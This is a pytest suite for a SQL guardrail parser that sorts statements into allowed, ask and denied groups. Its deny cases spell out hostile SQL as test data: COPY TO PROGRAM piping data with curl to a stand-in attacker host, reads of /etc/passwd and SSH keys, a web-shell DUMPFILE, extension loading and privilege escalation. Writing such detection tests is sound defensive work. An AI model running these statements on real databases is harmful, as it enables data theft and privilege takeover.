"""guardrail.parsers.sql: SQL statements as the policy sees them (spec section 3)."""

from __future__ import annotations

import subprocess
import sys

import pytest
from hypothesis import given, settings
from strategies import sql_texts

from guardrail.effects import DbEffect
from guardrail.parsers.sql import DENY_FEATURES, FEATURES, parse_sql


def one(query: str, dialect: str | None = None) -> DbEffect:
    effects = parse_sql(query, dialect)
    assert len(effects) == 1, effects
    return effects[0]


# ---------------------------------------------------------------------------
# allow row: reads, plain writes, creates, transactions, COPY stdio, RESET ROLE


@pytest.mark.parametrize(
    ("query", "dialect", "statement"),
    [
        ("SELECT id, email FROM users WHERE created_at > now() - interval '7 days' LIMIT 20", "postgres", "SELECT"),
        ("select count(*) from orders", None, "SELECT"),
        ("WITH recent AS (SELECT * FROM orders WHERE ts > '2024-01-01') SELECT count(*) FROM recent", None, "SELECT"),
        ("WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r", None, "SELECT"),
        ("SELECT 1 UNION SELECT 2", None, "SELECT"),
        ("(SELECT 1)", None, "SELECT"),
        ("VALUES (1), (2)", "postgres", "SELECT"),
        ("TABLE users", "postgres", "SELECT"),
        ("SELECT * FROM users FOR UPDATE", "postgres", "SELECT"),
        ("SHOW tables", None, "SHOW"),
        ("SHOW search_path", "postgres", "SHOW"),
        ("SHOW CREATE TABLE users", "mysql", "SHOW"),
        ("SHOW GRANTS", "mysql", "SHOW"),
        ("DESCRIBE users", "mysql", "DESCRIBE"),
        ("PRAGMA table_info(users)", "sqlite", "PRAGMA"),
        ("PRAGMA foreign_keys", "sqlite", "PRAGMA"),
        ("INSERT INTO users (email) VALUES ('a@example.com')", None, "INSERT"),
        ("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2", "postgres", "INSERT"),
        ("INSERT OR REPLACE INTO t VALUES (1)", "sqlite", "INSERT"),
        ("REPLACE INTO t VALUES (1)", "mysql", "REPLACE"),
        ("REPLACE INTO t VALUES (1)", None, "REPLACE"),
        ("CREATE TABLE notes (id serial PRIMARY KEY, body text)", "postgres", "CREATE TABLE"),
        ("CREATE TEMP TABLE x (a int)", None, "CREATE TABLE"),
        ("CREATE TABLE IF NOT EXISTS t (a int)", "sqlite", "CREATE TABLE"),
        ("CREATE TABLE x AS SELECT * FROM users", None, "CREATE TABLE"),
        ("CREATE INDEX idx_users_email ON users (email)", None, "CREATE INDEX"),
        ("CREATE UNIQUE INDEX CONCURRENTLY i ON t (a)", "postgres", "CREATE INDEX"),
        ("CREATE VIEW active_users AS SELECT * FROM users WHERE active", None, "CREATE VIEW"),
        ("CREATE OR REPLACE VIEW v AS SELECT 1", None, "CREATE VIEW"),
        ("CREATE MATERIALIZED VIEW mv AS SELECT 1", "postgres", "CREATE MATERIALIZED VIEW"),
        ("SELECT * INTO new_table FROM users", "postgres", "CREATE TABLE"),
        ("SELECT * INTO TEMP new_table FROM users", "postgres", "CREATE TABLE"),
        ("BEGIN", None, "BEGIN"),
        ("START TRANSACTION", None, "BEGIN"),
        ("COMMIT", None, "COMMIT"),
        ("END", "postgres", "COMMIT"),
        ("ROLLBACK", None, "ROLLBACK"),
        ("ABORT", "postgres", "ROLLBACK"),
        ("ROLLBACK TO SAVEPOINT a", None, "ROLLBACK"),
        ("SAVEPOINT before_migration", None, "SAVEPOINT"),
        ("RELEASE SAVEPOINT before_migration", None, "RELEASE SAVEPOINT"),
        ("COPY users TO STDOUT WITH CSV HEADER", "postgres", "COPY"),
        ("COPY users FROM STDIN", "postgres", "COPY"),
        ("RESET ROLE", "postgres", "RESET ROLE"),
    ],
)
def test_allowed_statements(query: str, dialect: str | None, statement: str) -> None:
    e = one(query, dialect)
    assert e.statement == statement
    assert e.parsed is True
    assert not (e.features & DENY_FEATURES), e.features


def test_select_has_no_write_features() -> None:
    e = one("WITH x AS (SELECT 1) SELECT * FROM x")
    assert e.features == frozenset()
    assert e.where is None


def test_copy_stdio_feature() -> None:
    assert "copy_stdio" in one("COPY users TO STDOUT", "postgres").features
    assert one("COPY users FROM STDIN", "postgres").features == {"copy_stdio", "writes"}


def test_writes_and_ddl_features() -> None:
    assert one("INSERT INTO t VALUES (1)").features == {"writes"}
    assert one("CREATE TABLE t (a int)").features == {"writes", "ddl"}
    assert one("SELECT * INTO new_table FROM t", "postgres").features == {"writes", "ddl"}
    assert one("SELECT a INTO @v FROM t", "mysql").statement == "SELECT"  # a variable, no table


# ---------------------------------------------------------------------------
# UPDATE / DELETE and their WHERE


@pytest.mark.parametrize(
    ("query", "dialect", "where"),
    [
        ("DELETE FROM sessions WHERE expires_at < now()", "postgres", "real"),
        ("UPDATE users SET active = false WHERE id = 42", None, "real"),
        ("DELETE FROM t WHERE x = 2 AND 1 = 1", None, "real"),
        ("DELETE FROM t WHERE 1 = 2", None, "real"),
        ("DELETE FROM t WHERE 1 = 1 AND false", None, "real"),
        ("DELETE FROM t WHERE a = b", None, "real"),
        ("DELETE FROM a USING b WHERE a.id = b.id", "postgres", "real"),
        ("DELETE FROM t WHERE id IN (SELECT id FROM old)", None, "real"),
        ("DELETE FROM t WHERE a LIKE 'x%'", None, "real"),
        ("DELETE FROM t WHERE NULL", None, "trivial"),  # a constant not folded: asked
        ("DELETE FROM t", None, "none"),
        ("UPDATE users SET active = false", None, "none"),
        ("DELETE FROM t LIMIT 10", "mysql", "none"),
        ("DELETE FROM t WHERE 1=1", None, "trivial"),
        ("DELETE FROM t WHERE true", None, "trivial"),
        ("DELETE FROM t WHERE TRUE", "sqlite", "trivial"),
        ("DELETE FROM t WHERE 1", "mysql", "trivial"),
        ("DELETE FROM t WHERE 1", "sqlite", "trivial"),
        ("DELETE FROM t WHERE 2>1", None, "trivial"),
        ("DELETE FROM t WHERE 'a'='a'", None, "trivial"),
        ("DELETE FROM t WHERE 1=1 OR x=2", None, "trivial"),
        ("DELETE FROM t WHERE x=2 OR 1=1", None, "trivial"),
        ("DELETE FROM t WHERE NOT false", None, "trivial"),
        ("DELETE FROM t WHERE NOT (1 = 2)", None, "trivial"),
        ("DELETE FROM t WHERE id = id", None, "trivial"),
        ("DELETE FROM t WHERE ID = id", None, "trivial"),
        ("DELETE FROM t WHERE t.id = t.id", None, "trivial"),
        ("DELETE FROM t WHERE a >= a", None, "trivial"),
        ("UPDATE `users` SET `x` = 1 WHERE `id` = `id`", "mysql", "trivial"),
        ("DELETE FROM t WHERE x=x AND 1=1", None, "trivial"),
        ("DELETE FROM t WHERE (1=1) AND (2=2)", None, "trivial"),
        ("DELETE FROM t WHERE 1 + 1 = 2", None, "trivial"),
        ("DELETE FROM t WHERE 't'::boolean", "postgres", "trivial"),
        ("DELETE FROM t WHERE CAST(1 AS BOOLEAN)", None, "trivial"),
        ("DELETE FROM t WHERE 1 IN (1, 2)", None, "trivial"),
        ("DELETE FROM t WHERE EXISTS (SELECT 1)", None, "trivial"),
        ("DELETE FROM t WHERE (SELECT 1) = 1", None, "trivial"),
        ("DELETE FROM t WHERE '1' = 1", "mysql", "trivial"),
        ("DELETE FROM t WHERE -1", "sqlite", "trivial"),
        ("DELETE FROM t WHERE name LIKE '%'", None, "trivial"),
        ("DELETE FROM t WHERE NULL IS NULL", None, "trivial"),
        ("UPDATE t SET a = 1 WHERE 1 <> 2", None, "trivial"),
    ],
)
def test_where(query: str, dialect: str | None, where: str) -> None:
    e = one(query, dialect)
    assert e.statement in ("UPDATE", "DELETE")
    assert e.where == where
    assert "writes" in e.features


def test_where_is_only_for_update_and_delete() -> None:
    assert one("INSERT INTO t SELECT * FROM u WHERE 1=1").where is None
    assert one("SELECT * FROM t WHERE 1=1").where is None


def test_writable_cte_counts_as_the_write() -> None:
    e = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "postgres")
    assert (e.statement, e.where) == ("DELETE", "none")
    assert "writes" in e.features
    e = one("WITH d AS (DELETE FROM t WHERE id = 3 RETURNING *) SELECT * FROM d", "postgres")
    assert (e.statement, e.where) == ("DELETE", "real")
    e = one("WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x", "postgres")
    assert e.statement == "INSERT"


def test_writable_cte_takes_the_worst_write() -> None:
    e = one(
        "WITH a AS (UPDATE t SET x = 1 RETURNING *), "
        "b AS (DELETE FROM u WHERE id = 1 RETURNING *) SELECT 1",
        "postgres",
    )
    assert (e.statement, e.where) == ("UPDATE", "none")


def test_merge_actions_are_the_merge() -> None:
    e = one(
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a "
        "WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)",
        "postgres",
    )
    assert e.statement == "MERGE"
    assert "writes" in e.features


# ---------------------------------------------------------------------------
# EXPLAIN


@pytest.mark.parametrize(
    ("query", "dialect", "statement", "where"),
    [
        ("EXPLAIN ANALYZE DELETE FROM t", "postgres", "DELETE", "none"),
        ("EXPLAIN ANALYSE VERBOSE DELETE FROM t", "postgres", "DELETE", "none"),
        ("EXPLAIN (ANALYZE, FORMAT JSON) UPDATE t SET a = 1 WHERE 1=1", "postgres", "UPDATE", "trivial"),
        ("EXPLAIN (FORMAT JSON, ANALYZE) DELETE FROM t WHERE id = 1", "postgres", "DELETE", "real"),
        ("EXPLAIN (ANALYZE on, BUFFERS) SELECT 1", "postgres", "SELECT", None),
        ("EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT 1", "postgres", "DELETE", "none"),
        ("EXPLAIN ANALYZE SELECT * FROM t", "mysql", "SELECT", None),
        ("EXPLAIN SELECT * FROM t", None, "EXPLAIN", None),
        ("EXPLAIN DELETE FROM t", "postgres", "EXPLAIN", None),
        ("EXPLAIN (ANALYZE false) DELETE FROM t", "postgres", "EXPLAIN", None),
        ("EXPLAIN QUERY PLAN SELECT * FROM t WHERE a = 1", "sqlite", "EXPLAIN", None),
        ("EXPLAIN FORMAT=JSON SELECT 1", "mysql", "EXPLAIN", None),
        ("DESC SELECT * FROM t", "mysql", "EXPLAIN", None),
    ],
)
def test_explain(query: str, dialect: str | None, statement: str, where: str | None) -> None:
    e = one(query, dialect)
    assert (e.statement, e.where, e.parsed) == (statement, where, True)


def test_plain_explain_of_a_write_is_a_read() -> None:
    assert one("EXPLAIN DELETE FROM t", "postgres").features == frozenset()


def test_plain_explain_keeps_deny_features() -> None:
    assert "program_access" in one("EXPLAIN COPY t TO PROGRAM 'sh'", "postgres").features
    assert "file_access" in one("EXPLAIN SELECT pg_read_file('/etc/passwd')").features


# ---------------------------------------------------------------------------
# ask row: DROP, TRUNCATE, ALTER, CREATE FUNCTION/..., CALL, DO, maintenance, unparsed


@pytest.mark.parametrize(
    ("query", "dialect", "statement", "parsed"),
    [
        ("DROP TABLE users", None, "DROP TABLE", True),
        ("DROP TABLE IF EXISTS t CASCADE", None, "DROP TABLE", True),
        ("DROP INDEX idx", None, "DROP INDEX", True),
        ("DROP VIEW v", None, "DROP VIEW", True),
        ("DROP MATERIALIZED VIEW mv", "postgres", "DROP MATERIALIZED VIEW", True),
        ("DROP SCHEMA s CASCADE", None, "DROP SCHEMA", True),
        ("DROP DATABASE d", None, "DROP DATABASE", True),
        ("TRUNCATE users", None, "TRUNCATE", True),
        ("TRUNCATE TABLE users", "mysql", "TRUNCATE", True),
        ("ALTER TABLE users ADD COLUMN age int", None, "ALTER TABLE", True),
        ("ALTER INDEX i RENAME TO j", "postgres", "ALTER INDEX", True),
        ("CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", "postgres", "CREATE FUNCTION", True),
        ("CREATE OR REPLACE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", "postgres", "CREATE FUNCTION", True),
        ("CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$", "postgres", "CREATE PROCEDURE", True),
        ("CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", "postgres", "CREATE TRIGGER", True),
        ("CREATE RULE r AS ON INSERT TO t DO NOTHING", "postgres", "CREATE RULE", False),
        ("CREATE EXTENSION IF NOT EXISTS pg_trgm", "postgres", "CREATE EXTENSION", False),
        ("CALL refresh_stats()", None, "CALL", False),
        ("DO $$ BEGIN PERFORM 1; END $$", "postgres", "DO", False),
        ("VACUUM", None, "VACUUM", False),
        ("VACUUM FULL users", "postgres", "VACUUM", False),
        ("ANALYZE users", "postgres", "ANALYZE", True),
        ("CLUSTER users", "postgres", "CLUSTER", False),
        ("REINDEX TABLE users", "postgres", "REINDEX", False),
        ("LOCK TABLE users", "postgres", "LOCK", False),
        ("garbage here", None, "UNPARSED", False),
        ("SELECT 1 FROM", None, "SELECT", False),
        ("SELECT 'unterminated", None, "SELECT", False),
        # fit no line: fallback
        ("CREATE SCHEMA s", None, "CREATE SCHEMA", True),
        ("CREATE DATABASE d", None, "CREATE DATABASE", True),
        ("CREATE SEQUENCE s", "postgres", "CREATE SEQUENCE", True),
        ("CREATE TYPE mood AS ENUM ('ok')", "postgres", "CREATE TYPE", True),
        ("SET search_path = app", "postgres", "SET", True),
        ("COMMENT ON TABLE t IS 'x'", "postgres", "COMMENT", True),
        ("REFRESH MATERIALIZED VIEW mv", "postgres", "REFRESH MATERIALIZED VIEW", False),
        ("PREPARE p AS DELETE FROM t", "postgres", "PREPARE", False),
    ],
)
def test_ask_statements(query: str, dialect: str | None, statement: str, parsed: bool) -> None:
    e = one(query, dialect)
    assert (e.statement, e.parsed) == (statement, parsed)
    assert not (e.features & DENY_FEATURES), e.features


def test_ddl_statements_carry_ddl() -> None:
    for query in ("DROP TABLE t", "TRUNCATE t", "ALTER TABLE t ADD COLUMN c int", "CREATE SCHEMA s"):
        assert {"ddl", "writes"} <= one(query).features


# ---------------------------------------------------------------------------
# deny row


@pytest.mark.parametrize(
    ("query", "dialect", "statement", "feature"),
    [
        ("GRANT SELECT ON users TO analyst", None, "GRANT", "privilege"),
        ("GRANT ALL PRIVILEGES ON *.* TO 'u'@'%'", "mysql", "GRANT", "privilege"),
        ("GRANT admin TO bob", "postgres", "GRANT", "privilege"),
        ("REVOKE ALL ON users FROM analyst", None, "REVOKE", "privilege"),
        ("CREATE USER bob WITH PASSWORD 'x'", "postgres", "CREATE USER", "privilege"),
        ("CREATE USER 'u'@'%' IDENTIFIED BY 'p'", "mysql", "CREATE USER", "privilege"),
        ("ALTER USER bob WITH SUPERUSER", "postgres", "ALTER USER", "privilege"),
        ("DROP USER bob", None, "DROP USER", "privilege"),
        ("CREATE ROLE admin LOGIN", "postgres", "CREATE ROLE", "privilege"),
        ("ALTER ROLE bob SUPERUSER", "postgres", "ALTER ROLE", "privilege"),
        ("DROP ROLE IF EXISTS r", "postgres", "DROP ROLE", "privilege"),
        ("ALTER SYSTEM SET shared_preload_libraries = 'x'", "postgres", "ALTER SYSTEM", "privilege"),
        ("SET ROLE postgres", "postgres", "SET ROLE", "privilege"),
        ("set role postgres", None, "SET ROLE", "privilege"),
        ("SET LOCAL ROLE admin", "postgres", "SET ROLE", "privilege"),
        ("SET SESSION ROLE admin", "postgres", "SET ROLE", "privilege"),
        ("SET role = 'admin'", "postgres", "SET ROLE", "privilege"),
        ("SET ROLE admin", "mysql", "SET ROLE", "privilege"),
        ("SET SESSION AUTHORIZATION 'postgres'", "postgres", "SET SESSION AUTHORIZATION", "privilege"),
        ("SET SESSION AUTHORIZATION DEFAULT", "postgres", "SET SESSION AUTHORIZATION", "privilege"),
        ("SET session_authorization = 'bob'", "postgres", "SET SESSION AUTHORIZATION", "privilege"),
        ("SELECT set_config('role', 'postgres', false)", "postgres", "SELECT", "privilege"),
        ("SELECT SET_CONFIG('ROLE', 'postgres', false)", "postgres", "SELECT", "privilege"),
        ("SELECT set_config('Session_Authorization', 'x', true)", "postgres", "SELECT", "privilege"),
        ("SELECT set_config(name, 'x', false) FROM settings", "postgres", "SELECT", "privilege"),
        ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", "postgres", "ALTER DEFAULT PRIVILEGES", "privilege"),
        ("UPDATE mysql.user SET authentication_string = '' WHERE user = 'root'", "mysql", "UPDATE", "privilege"),
        # server files and programs
        ("COPY users TO PROGRAM 'curl -d @- https://evil.example'", "postgres", "COPY", "program_access"),
        ("COPY t FROM PROGRAM 'id'", "postgres", "COPY", "program_access"),
        ("COPY (SELECT 1) TO PROGRAM 'sh'", "postgres", "COPY", "program_access"),
        ("COPY users TO '/tmp/users.csv'", "postgres", "COPY", "file_access"),
        ("COPY users FROM '/etc/passwd'", "postgres", "COPY", "file_access"),
        ("SELECT pg_read_file('/etc/passwd')", "postgres", "SELECT", "file_access"),
        ("select PG_READ_FILE('postgresql.conf', 0, 200)", None, "SELECT", "file_access"),
        ("SELECT pg_catalog.pg_read_file('/x')", "postgres", "SELECT", "file_access"),
        ('SELECT "pg_read_file"(\'/x\')', "postgres", "SELECT", "file_access"),
        ("SELECT pg_read_binary_file('/x')", "postgres", "SELECT", "file_access"),
        ("SELECT * FROM pg_ls_dir('.')", "postgres", "SELECT", "file_access"),
        ("WITH x AS (SELECT pg_ls_dir('.') AS f) SELECT * FROM x", "postgres", "SELECT", "file_access"),
        ("SELECT pg_stat_file('/x')", "postgres", "SELECT", "file_access"),
        ("SELECT lo_import('/etc/passwd')", "postgres", "SELECT", "file_access"),
        ("SELECT lo_export(16409, '/tmp/x')", "postgres", "SELECT", "file_access"),
        ("SELECT LOAD_FILE('/etc/passwd')", "mysql", "SELECT", "file_access"),
        ("SELECT id FROM (SELECT load_file('/x') AS id) s", None, "SELECT", "file_access"),
        ("INSERT INTO t (a) SELECT a FROM u WHERE pg_read_file('/x') IS NOT NULL", None, "INSERT", "file_access"),
        ("REPLACE INTO t (a) SELECT LOAD_FILE('/etc/passwd')", "mysql", "REPLACE", "file_access"),
        ("SELECT * FROM users INTO OUTFILE '/tmp/users.txt'", "mysql", "SELECT", "file_access"),
        ("SELECT * INTO OUTFILE '/tmp/x' FROM users", "mysql", "SELECT", "file_access"),
        ("SELECT body INTO DUMPFILE '/var/www/shell.php' FROM t", "mysql", "SELECT", "file_access"),
        ("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", "mysql", "LOAD DATA", "file_access"),
        ("LOAD DATA LOCAL INFILE '/home/u/.ssh/id_rsa' INTO TABLE t", "mysql", "LOAD DATA", "file_access"),
        ("load data local infile 'x' into table t", None, "LOAD DATA", "file_access"),
        ("SELECT writefile('/tmp/x', 'data')", "sqlite", "SELECT", "file_access"),
        # dblink
        ("SELECT * FROM dblink('host=10.0.0.5', 'select 1') AS r(a int)", "postgres", "SELECT", "dblink"),
        ("SELECT dblink_exec('conn', 'DROP TABLE t')", "postgres", "SELECT", "dblink"),
        ("SELECT DBLINK_CONNECT('c', 'host=x')", "postgres", "SELECT", "dblink"),
        ("CREATE EXTENSION dblink", "postgres", "CREATE EXTENSION", "dblink"),
        ("CREATE EXTENSION IF NOT EXISTS dblink", None, "CREATE EXTENSION", "dblink"),
        # SQLite
        ("ATTACH DATABASE '/etc/x.db' AS x", "sqlite", "ATTACH DATABASE", "attach"),
        ("ATTACH '/tmp/x.db' AS x", "sqlite", "ATTACH DATABASE", "attach"),
        ("ATTACH DATABASE 'x.db' AS y", None, "ATTACH DATABASE", "attach"),
        ("SELECT load_extension('/tmp/evil.so')", "sqlite", "SELECT", "load_extension"),
        ("PRAGMA writable_schema = 1", "sqlite", "PRAGMA", "writable_schema"),
        ("PRAGMA main.writable_schema = ON", "sqlite", "PRAGMA", "writable_schema"),
        ("PRAGMA writable_schema", "sqlite", "PRAGMA", "writable_schema"),
        ("UPDATE sqlite_master SET sql = 'x' WHERE name = 't'", "sqlite", "UPDATE", "writable_schema"),
        # loading server code
        ("LOAD 'auto_explain'", "postgres", "LOAD", "load_extension"),
        ("INSTALL PLUGIN p SONAME 'p.so'", "mysql", "INSTALL PLUGIN", "load_extension"),
        ("CREATE AGGREGATE FUNCTION f RETURNS STRING SONAME 'udf.so'", "mysql", "CREATE FUNCTION", "load_extension"),
    ],
)
def test_denied_statements(query: str, dialect: str | None, statement: str, feature: str) -> None:
    e = one(query, dialect)
    assert e.statement == statement
    assert feature in e.features


def test_set_config_of_other_settings_is_no_privilege() -> None:
    assert one("SELECT set_config('search_path', 'app', false)").features == frozenset()


def test_reset_role_is_no_privilege() -> None:
    for query in ("RESET ROLE", "RESET SESSION AUTHORIZATION", "reset role"):
        e = one(query, "postgres")
        assert "privilege" not in e.features
        assert e.parsed


def test_create_user_mapping_is_not_create_user() -> None:
    e = one("CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'x')", "postgres")
    assert e.statement == "CREATE USER MAPPING"
    assert "privilege" not in e.features


def test_function_body_is_scanned_for_deny_features() -> None:
    e = one("CREATE FUNCTION f() RETURNS void AS $$ COPY t TO PROGRAM 'x' $$ LANGUAGE sql", "postgres")
    assert e.statement == "CREATE FUNCTION"
    assert "program_access" in e.features


def test_do_block_is_scanned() -> None:
    e = one("DO $$ BEGIN EXECUTE 'COPY t TO PROGRAM ''sh'''; END $$", "postgres")
    assert (e.statement, e.parsed) == ("DO", False)
    assert "program_access" in e.features


def test_sql_inside_query_to_xml_is_parsed() -> None:
    e = one("SELECT query_to_xml('copy t to program ''sh''', true, true, '')", "postgres")
    assert "program_access" in e.features


def test_string_literals_are_not_keywords() -> None:
    assert one("SELECT * FROM logs WHERE msg LIKE '%INTO OUTFILE%'").features == frozenset()
    assert one("INSERT INTO audit VALUES ('user ran GRANT ALL; pg_read_file(x)')").features == {"writes"}
    assert one("SELECT $$ ; DROP TABLE t $$", "postgres").statement == "SELECT"


# ---------------------------------------------------------------------------
# unparsed statements: keyword scan


@pytest.mark.parametrize(
    ("query", "feature"),
    [
        ("SELECT * FROM t INTO OUTFILE '/tmp/x' FIELDS TERMINATED BY ','", "file_access"),
        ("LOAD DATA LOCAL INFILE 'x' INTO TABLE t (a, b) SET c = NOW() GARBAGE (", "file_access"),
        ("CREATE USER evil ((( garbage", "privilege"),
        ("GRANT ))) everything", "privilege"),
        ("COPY t FROM PROGRAM 'x' WITH (((", "program_access"),
        ("SELECT pg_read_file('/etc/passwd') FROM (((", "file_access"),
        ("SELECT dblink('x', 'y') ((( ", "dblink"),
        ("SELECT load_extension('x') (((", "load_extension"),
        ("PRAGMA writable_schema = ((( ", "writable_schema"),
        ("ATTACH DATABASE ((( ", "attach"),
        ("SELECT set_config('role', 'x', false) (((", "privilege"),
    ],
)
def test_unparsed_statement_keyword_scan(query: str, feature: str) -> None:
    e = one(query)
    assert e.parsed is False
    assert feature in e.features


def test_unparsed_without_deny_keywords_has_no_deny_features() -> None:
    e = one("SELEKT * FROM users")
    assert (e.statement, e.parsed, e.features) == ("UNPARSED", False, frozenset())


# ---------------------------------------------------------------------------
# several statements, comments, executable comments


def test_several_statements() -> None:
    effects = parse_sql("SELECT 1; DROP TABLE t; -- trailing comment")
    assert [e.statement for e in effects] == ["SELECT", "DROP TABLE"]
    assert [e.source for e in effects] == ["SELECT 1", "DROP TABLE t"]


def test_statements_keep_order_and_each_is_decided() -> None:
    effects = parse_sql(
        "SELECT * FROM users WHERE email = 'a@b.c'; UPDATE users SET active = false; "
        "GRANT ALL ON users TO bob"
    )
    assert [(e.statement, e.where) for e in effects] == [
        ("SELECT", None),
        ("UPDATE", "none"),
        ("GRANT", None),
    ]


def test_one_bad_statement_does_not_hide_the_others() -> None:
    effects = parse_sql("SELECT 1; SELEKT garbage; DELETE FROM t")
    assert [(e.statement, e.parsed) for e in effects] == [
        ("SELECT", True),
        ("UNPARSED", False),
        ("DELETE", True),
    ]


def test_comments_and_empty_statements() -> None:
    assert parse_sql("-- nothing here\n") == []
    assert parse_sql("  ;; ") == []
    assert one("/* leading */ SELECT 1 -- trailing").statement == "SELECT"
    assert one("SELECT 1 # mysql comment", "mysql").statement == "SELECT"


@pytest.mark.parametrize("dialect", [None, "postgres", "sqlite", "mysql"])
def test_mysql_executable_comments_in_every_dialect(dialect: str | None) -> None:
    assert one("/*!50000 DROP TABLE t */", dialect).statement == "DROP TABLE"
    assert one("/*! DROP TABLE t */", dialect).statement == "DROP TABLE"
    effects = parse_sql("SELECT 1 /*!50000 ; GRANT ALL ON t TO x */", dialect)
    assert "privilege" in effects[-1].features
    assert "file_access" in one("SELECT 1 /*!, LOAD_FILE('/etc/passwd') */", dialect).features
    assert "file_access" in one("SELECT * FROM t /*!INTO OUTFILE '/tmp/x' */", dialect).features
    assert "privilege" in one("/*M!100000 CREATE USER x */", dialect).features


def test_plain_comments_are_not_executed() -> None:
    assert one("SELECT 1 /* DROP TABLE t; GRANT ALL ON t TO x */").features == frozenset()


# ---------------------------------------------------------------------------
# dialects, source, robustness


def test_dialect_and_source_are_recorded() -> None:
    e = parse_sql("SELECT 1", "postgres", source='psql -c "SELECT 1"')[0]
    assert (e.dialect, e.source) == ("postgres", 'psql -c "SELECT 1"')
    assert parse_sql("SELECT 1")[0].dialect is None


def test_generic_dialect_falls_back_to_mysql_and_sqlite() -> None:
    assert one("SELECT `a` FROM `t`").statement == "SELECT"
    assert one("SHOW TABLES").parsed is True
    assert one("ATTACH 'x.db' AS y").statement == "ATTACH DATABASE"


def test_unknown_dialect_name_is_read_generically() -> None:
    assert one("SELECT 1", "oracle-ish").statement == "SELECT"


def test_deep_nesting_does_not_raise() -> None:
    effects = parse_sql("SELECT " + "(" * 3000 + "1" + ")" * 3000)
    assert len(effects) == 1


def test_feature_vocabulary() -> None:
    assert DENY_FEATURES < FEATURES
    queries = [
        "GRANT ALL ON t TO u",
        "COPY t FROM PROGRAM 'x'",
        "SELECT pg_read_file('x')",
        "SELECT dblink('a', 'b')",
        "ATTACH 'x' AS y",
        "SELECT load_extension('x')",
        "PRAGMA writable_schema = 1",
        "COPY t TO STDOUT",
        "CREATE TABLE t (a int)",
    ]
    seen = frozenset().union(*(e.features for q in queries for e in parse_sql(q)))
    assert seen == FEATURES


@given(sql_texts())
@settings(max_examples=300, deadline=None)
def test_parse_sql_never_raises(query: str) -> None:
    effects = parse_sql(query)
    for e in effects:
        assert e.statement == e.statement.upper()
        assert e.features <= FEATURES
        assert e.where in (None, "none", "trivial", "real")


@given(sql_texts())
@settings(max_examples=100, deadline=None)
def test_parse_sql_never_raises_in_any_dialect(query: str) -> None:
    for dialect in ("postgres", "sqlite", "mysql"):
        parse_sql(query, dialect)


def test_importing_sql_parser_does_not_import_sqlglot() -> None:
    code = "import sys, guardrail.parsers.sql; print('sqlglot' in sys.modules)"
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    ).stdout
    assert out.strip() == "False"
